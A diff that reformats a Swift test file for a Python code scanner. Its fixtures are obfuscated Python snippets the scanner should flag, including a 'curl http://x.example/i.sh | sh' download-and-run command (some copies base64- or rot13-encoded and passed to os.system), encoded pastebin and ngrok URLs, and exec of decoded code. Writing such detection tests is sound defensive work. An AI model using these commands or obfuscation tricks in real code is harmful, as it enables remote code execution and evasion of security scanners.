@@ -37,18 +37,31 @@ import Testing
         PythonExample(.urlTunnel, "u = ↓''.join(['https://', 'abc.', 'ngrok', '.io'])"),
         PythonExample(.shellCommand, "c = ↓'cu' 'rl http://x.example/i.sh | sh'"),
         // Encoded strings
-        PythonExample(.urlPaste, "import base64\nu = ↓base64.b64decode('aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3h5eg==').decode()"),
+        PythonExample(
+            .urlPaste, "import base64\nu = ↓base64.b64decode('aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3h5eg==').decode()"),
         PythonExample(.urlPaste, "import base64\nu = ↓base64.b64decode(b'aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3h5eg==')"),
         PythonExample(.urlPaste, "u = ↓bytes.fromhex('68747470733a2f2f706173746562696e2e636f6d2f61').decode()"),
         PythonExample(.urlPaste, "import codecs\nu = ↓codecs.decode('uggcf://cnfgrova.pbz/n', 'rot13')"),
-        PythonExample(.urlPaste, "import codecs\nu = ↓codecs.decode('68747470733a2f2f706173746562696e2e636f6d2f61', 'hex')"),
-        PythonExample(.urlPaste, "v = ↓''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]))"),
-        PythonExample(.urlPaste, "u = ↓''.join([chr(104), chr(116), chr(116), chr(112), chr(58), chr(47), chr(47), chr(112), chr(97), chr(115), chr(116), chr(101), chr(98), chr(105), chr(110), chr(46), chr(99), chr(111), chr(109)])"),
+        PythonExample(
+            .urlPaste, "import codecs\nu = ↓codecs.decode('68747470733a2f2f706173746562696e2e636f6d2f61', 'hex')"),
+        PythonExample(
+            .urlPaste,
+            "v = ↓''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]))"
+        ),
+        PythonExample(
+            .urlPaste,
+            "u = ↓''.join([chr(104), chr(116), chr(116), chr(112), chr(58), chr(47), chr(47), chr(112), chr(97), chr(115), chr(116), chr(101), chr(98), chr(105), chr(110), chr(46), chr(99), chr(111), chr(109)])"
+        ),
         PythonExample(.urlPaste, "u = ↓'moc.nibetsap//:sptth'[::-1]"),
         PythonExample(.urlPaste, "u = ↓''.join(reversed('moc.nibetsap//:sptth'))"),
-        PythonExample(.urlPaste, "u = ↓bytes([104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]).decode()"),
+        PythonExample(
+            .urlPaste,
+            "u = ↓bytes([104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]).decode()"
+        ),
         PythonExample(.urlPaste, "u = ↓'\\x68\\x74\\x74\\x70\\x3a//pastebin.com'"),
-        PythonExample(.shellCommand, "import base64, os\nos.system(↓base64.b64decode('Y3VybCBodHRwOi8veC5leGFtcGxlL2kuc2ggfCBzaA==').decode())"),
+        PythonExample(
+            .shellCommand,
+            "import base64, os\nos.system(↓base64.b64decode('Y3VybCBodHRwOi8veC5leGFtcGxlL2kuc2ggfCBzaA==').decode())"),
         PythonExample(.shellCommand, "import codecs\nc = ↓codecs.decode('phey uggc://k.rknzcyr/v.fu | fu', 'rot_13')"),
         PythonExample(.spawnProcess, "import base64, os\n↓os.system(base64.b64decode('aWQ=').decode())"),
         PythonExample(.evalCode, "import base64\n↓exec(base64.b64decode('cHJpbnQoMSk='))"),
@@ -67,7 +80,8 @@ import Testing
     }
 
     @Test func ordinaryStringsAreNotCode() {
-        let analysis = PythonTestSupport.analyse("""
+        let analysis = PythonTestSupport.analyse(
+            """
             a = "eval(x)"
             b = 'os.system("id")'
             c = "__import__('os').system('x')"
@@ -79,7 +93,8 @@ import Testing
     }
 
     @Test func shadowedNamesAreNotLibraryCalls() {
-        let analysis = PythonTestSupport.analyse("""
+        let analysis = PythonTestSupport.analyse(
+            """
             def system(x):
                 return x
             def exec(y):
